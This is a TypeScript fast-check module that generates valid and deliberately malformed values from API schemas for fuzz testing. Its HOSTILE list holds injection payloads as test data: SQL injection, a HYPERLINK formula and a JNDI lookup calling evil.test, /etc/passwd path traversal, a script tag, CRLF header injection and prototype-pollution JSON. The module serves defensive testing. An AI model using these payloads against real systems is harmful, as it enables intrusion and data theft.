// Values a schema allows, and values that look like them but are wrong: what a caller might send, and an attacker.
import fc from 'fast-check';
import { resolved, type Schema } from './document.ts';

/** Values that `schema` allows. */
export function valuesOf(schema: Schema): fc.Arbitrary<unknown> {
  const whole = resolved(schema);
  const { example } = whole;
  const made = plainValuesOf(whole);
  const isWholeExample = typeof example === 'object' && example !== null;
  const value = isWholeExample ? fc.oneof(fc.constant(example), made) : made;
  return whole.nullable ? fc.option(value, { freq: 8 }) : value;
}

function plainValuesOf(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.allOf) return fc.tuple(...schema.allOf.map(valuesOf)).map(([first]) => first);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(valuesOf));
  switch (schema.type) {
    case 'object':
      return recordsOf(schema);
    case 'array':
      return fc.array(valuesOf(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, (schema.minItems ?? 0) + 3),
      });
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1000, max: Math.min(schema.maximum ?? 1000, 2 ** 31 - 1) });
    case 'number':
      return numbersOf(schema);
    case 'string':
      return textsOf(schema);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function recordsOf({ additionalProperties, properties = {}, required = [] }: Schema): fc.Arbitrary<unknown> {
  const named = fc.record(
    Object.fromEntries(Object.entries(properties).map(([name, schema]) => [name, valuesOf(schema)])),
    { requiredKeys: required },
  );
  if (typeof additionalProperties !== 'object') return named;
  return fc.dictionary(fc.string({ minLength: 1, maxLength: 8 }), valuesOf(additionalProperties), {
    maxKeys: 3,
  });
}

/** Cents, or shares: whatever falls between is refused by rules of their own, which the wrong values try. */
function numbersOf({ maximum = 100_000, minimum = 0 }: Schema): fc.Arbitrary<number> {
  return fc.integer({ min: 0, max: 10_000 }).map((step) => {
    const value = minimum + ((maximum - minimum) * step) / 10_000;
    return Math.min(maximum, Math.round(value * 100) / 100);
  });
}

function textsOf({ example, format, maxLength = 40, minLength = 0 }: Schema): fc.Arbitrary<string> {
  if (format === 'uuid') return fc.uuid({ version: 4 });
  if (format === 'email') return fc.emailAddress().map((address) => address.slice(-60));
  const free = fc.string({ minLength, maxLength: Math.min(maxLength, minLength + 40), unit: 'grapheme' });
  return typeof example === 'string' ? fc.oneof(fc.constant(example), free) : free;
}

/** What breaks careless code: SQL, markup, formulas, control characters, prototypes, sizes, depths. */
const HOSTILE: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    "' OR 1=1--",
    '"; DROP TABLE users; --',
    '=HYPERLINK("http://evil.test")',
    '../../../../etc/passwd',
    '<script>alert(1)</script>',
    '\0',
    'line\r\nSet-Cookie: a=b',
    '\ud800',
    '\u202egnp.exe',
    '$' + '{jndi:ldap://evil.test}',
    '%00%0a',
    '1e999',
    -1,
    -0,
    Number.MAX_SAFE_INTEGER,
    1e308,
    0.001,
    null,
    true,
    [],
    {},
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.integer({ min: 1, max: 4 }).map((power) => 'x'.repeat(10 ** power)),
  fc.integer({ min: 1, max: 60 }).map((depth) => nested(depth)),
  fc.constant(JSON.parse('{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}')),
);

function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
}

/** Values that `schema` allows, with something wrong at one place or in the whole. */
export function wrongValuesOf(schema: Schema): fc.Arbitrary<unknown> {
  const broken = fc.tuple(valuesOf(schema), HOSTILE, fc.nat(), fc.boolean()).map(brokenAtOnePlace);
  return fc.oneof({ weight: 4, arbitrary: broken }, { weight: 1, arbitrary: HOSTILE });
}

function brokenAtOnePlace([value, hostile, place, isExtra]: [unknown, unknown, number, boolean]): unknown {
  if (typeof value !== 'object' || value === null) return hostile;
  const copy = structuredClone(value) as Record<string, unknown>;
  const names = Object.keys(copy);
  if (isExtra || names.length === 0)
    return Array.isArray(copy) ? [...copy, hostile] : { ...copy, extra: hostile };
  const name = names[place % names.length]!;
  copy[name] = brokenAtOnePlace([copy[name], hostile, Math.floor(place / names.length), false]);
  return copy;
}
